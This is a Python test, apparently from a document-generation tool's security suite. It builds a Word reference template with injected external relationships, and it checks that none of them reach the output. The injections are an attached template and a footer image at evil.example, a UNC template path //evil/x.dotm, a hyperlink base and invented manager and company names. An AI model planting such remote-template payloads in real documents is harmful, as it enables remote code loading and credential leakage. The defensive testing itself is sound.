"""A Word template that opens other files, or that names people: nothing of it travels into an output."""

from __future__ import annotations

import io
import zipfile

from attack_runner import Attack, write_project
from small_project import template

RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006"
PROPERTIES = f"""<?xml version="1.0"?><Properties xmlns="{OFFICE}/extended-properties"><Template>//evil/x.dotm</Template>\
<Manager>Boss</Manager><Company>Secret Ltd</Company><HyperlinkBase>https://evil.example/</HyperlinkBase></Properties>"""
ATTACHED = f'<w:attachedTemplate xmlns:r="{OFFICE}/relationships" r:id="rId1"/></w:settings>'


def relationship(kind: str) -> str:
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="rId1" TargetMode="External" '
        f'Type="{OFFICE}/relationships/{kind}" Target="https://evil.example/t.dotm"/></Relationships>'
    )


def hostile_template() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template())) as good, zipfile.ZipFile(buffer, "w") as bad:
        for name in good.namelist():
            content = good.read(name)
            if name == "docProps/app.xml":
                content = PROPERTIES.encode()
            if name == "word/settings.xml":
                content = content.replace(b"</w:settings>", ATTACHED.encode())
            bad.writestr(name, content)
        bad.writestr("word/_rels/settings.xml.rels", relationship("attachedTemplate"))
        bad.writestr("word/_rels/footer1.xml.rels", relationship("image"))
    return buffer.getvalue()


def test_nothing_of_it_is_in_the_output(attack: Attack) -> None:
    filter = "formats: docx\nreference: t.docx\n"
    write_project(attack.folder, filters__all_yaml=filter)
    (attack.folder / "t.docx").write_bytes(hostile_template())
    assert attack.run().status == 0
    with zipfile.ZipFile(attack.folder / "outputs" / "all.docx") as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for word in (b"evil", b"attachedTemplate", b"Boss", b"Secret Ltd"):
        assert [name for name, content in parts.items() if word in content] == []
    assert b"polyvita" in parts["docProps/app.xml"]
